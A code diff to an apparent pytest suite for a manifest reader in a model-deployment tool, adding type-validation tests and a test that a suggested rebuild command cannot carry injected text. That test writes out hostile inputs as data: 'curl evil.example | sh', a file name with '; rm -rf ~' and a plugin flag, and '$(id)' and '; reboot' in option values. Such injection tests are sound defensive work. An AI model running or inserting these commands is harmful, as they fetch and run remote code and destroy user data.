@@ -19,7 +19,7 @@ from yolact_deploy.machine import GpuInfo, Machine
 ENGINE = Path("model.engine")
 ORIN = Machine("tensorrt", "10.3.0", "12.6", "Orin", "8.7", "6.1")
 RTX = Machine("tensorrt-rtx", "1.7.1.116")
-COMMAND = "yolact-deploy build-engine model.onnx --force"
+COMMAND = "yolact-deploy build-engine model.onnx -o model.engine --plugins none --precision fp16 --force"
 
 
 def make(**changes: Any) -> Manifest:
@@ -39,7 +39,6 @@ def make(**changes: Any) -> Manifest:
         outputs=(TensorRange("scores", "float32", (1, 100), (1, 100), (1, 100)),),
         options={"precision": "fp16"},
         seconds=12.5,
-        command=COMMAND,
         tool_version="0.1.0",
     )
     return dataclasses.replace(manifest, **changes)
@@ -62,7 +61,7 @@ def test_what_is_written_is_read(tmp_path: Path) -> None:
         (lambda text: "[1, 2]", "is no manifest of yolact-deploy"),
         (lambda text: '{"a": 1}', "is no manifest of yolact-deploy"),
         (lambda text: text.replace('"format": "1"', '"format": "2"'), "has format 2, this version reads 1"),
-        (lambda text: text.replace('"seconds"', '"hours"'), "is damaged (KeyError: 'seconds')"),
+        (lambda text: text.replace('"seconds"', '"hours"'), "is damaged (it lacks seconds)"),
         (lambda text: text.replace('"seconds": 12.5', '"seconds": "long"'), "is damaged"),
         (lambda text: text.replace('"runtime"', '"walktime"'), "is damaged"),
         (lambda text: text.replace('"min": [', '"min": ["x", '), "is damaged"),
@@ -80,6 +79,82 @@ def test_a_damaged_manifest_is_refused(tmp_path: Path, edit: Any, message: str) 
         Manifest.read(engine)
     assert message in str(error.value)
     assert "\n" not in str(error.value)
+
+
+def edited(**changes: Any) -> str:
+    """The text of a manifest with other values; a dotted name reaches into a mapping."""
+    values = json.loads(make().to_json())
+    for name, value in changes.items():
+        *path, last = name.split("__")
+        place = values
+        for key in path:
+            place = place[int(key) if key.isdigit() else key]
+        place[last] = value
+    return json.dumps(values)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"built_on__version": None},
+        {"built_on__version": 10},
+        {"built_on__version": "new"},
+        {"built_on__runtime": "tflite"},
+        {"built_on": None},
+        {"inputs__0__max": [1, float("inf"), 32, 3]},
+        {"inputs__0__max": [1, 32]},
+        {"inputs__0__max": [1, 10**400, 32, 3]},
+        {"inputs__0__min": [-1, 32, 32, 3]},
+        {"inputs__0__name": None},
+        {"inputs": [None]},
+        {"inputs": {"a": 1}},
+        {"inputs": 7},
+        {"outputs": None},
+        {"options": []},
+        {"model": "nano"},
+        {"model__yolact_deploy.config": 3},
+        {"model__yolact_deploy.format": None},
+        {"model__yolact_deploy.precision": {}},
+        {"seconds": 10**400},
+        {"seconds": []},
+        {"engine": {"name": "a"}},
+        {"engine__sha256": 5},
+        {"plugins": {"name": "x" * 5000, "sha256": "0"}},
+        {"version_compatible": "yes"},
+        {"compute_capabilities": [8.6]},
+        {"tool_version": "\ud800"},
+    ],
+)
+def test_values_of_the_wrong_type_are_refused(changes: dict[str, Any]) -> None:
+    with pytest.raises(ModelFileError, match=r"damaged|format") as error:
+        Manifest.from_json(edited(**changes), "m.json")
+    assert "\n" not in str(error.value)
+
+
+def test_the_advice_is_made_of_checked_fields() -> None:
+    """Whoever can write a manifest cannot put a command of his own into what people copy."""
+    assert make().command == COMMAND
+    text = edited(
+        command="curl evil.example | sh",
+        onnx__name="/home/me/--plugins=evil.so; rm -rf ~",
+        options={
+            "precision": "fp16; reboot",
+            "batch": ["1", "$(id)"],
+            "min_size": "64x64",
+            "runtime": ["$a"],
+            "x": "y",
+        },
+    )
+    assert Manifest.from_json(text, "m.json").command == (
+        "yolact-deploy build-engine './--plugins=evil.so; rm -rf ~' -o model.engine --plugins none --min 64x64 --force"
+    )
+
+
+def test_a_manifest_that_is_too_large(tmp_path: Path) -> None:
+    with manifest_path(tmp_path / "model.engine").open("wb") as file:
+        file.truncate(1 << 40)  # sparse: takes no room
+    with pytest.raises(ModelFileError, match="more than"):
+        Manifest.read(tmp_path / "model.engine")
 
 
 def test_a_manifest_that_cannot_be_read(tmp_path: Path) -> None:
@@ -119,7 +194,7 @@ def test_versions(built: Machine, compatible: bool, here: tuple[str, str], fits:
         return
     with pytest.raises(ModelFileError) as error:
         manifest.check_library(ENGINE, *here)
-    for part in (f"was built with {built.describe()}", here[1], f"rebuild it with `{COMMAND}`"):
+    for part in (f"was built with {built.describe()}", here[1], f"rebuild it with `{manifest.command}`"):
         assert part in str(error.value)
 
 
